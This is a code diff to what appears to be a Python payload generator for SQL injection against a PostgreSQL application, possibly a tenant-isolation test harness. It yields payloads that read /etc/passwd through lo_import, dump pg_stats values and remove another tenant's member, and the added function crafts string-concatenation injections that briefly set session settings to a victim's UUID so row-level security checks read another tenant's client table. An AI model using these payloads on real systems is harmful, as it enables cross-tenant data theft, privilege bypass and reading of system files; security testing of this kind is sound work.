@@ -19,6 +19,8 @@ def payloads(route: str, tables: list[Table], theirs: UUID) -> Iterator[str]:
         return
     for wanted in _queries(tables, theirs):
         yield from _fitted(route, wanted)
+    if route == "insert":
+        yield from _there_and_back(theirs)
 
 
 def _queries(tables: list[Table], theirs: UUID) -> Iterator[str]:
@@ -45,6 +47,14 @@ def _queries(tables: list[Table], theirs: UUID) -> Iterator[str]:
     yield f"select core.remove_member('{theirs}')::text"
     yield "select lo_get(lo_import('/etc/passwd'))::text"
     yield "select string_agg(s.most_common_vals::text, ' ') from pg_stats s"
+
+
+def _there_and_back(theirs: UUID) -> Iterator[str]:
+    """Changed for as long as one sub-select takes: the new row's own check finds it as it was."""
+    for name in SETTINGS:
+        to = f"set_config('{name}', '{theirs}', true)"
+        back = f"set_config('{name}', '', true)"
+        yield f"x' || substr({to}, 1, 0) || (select max(name) from public.clients) || {back} || '"
 
 
 def _fitted(route: str, wanted: str) -> Iterator[str]:
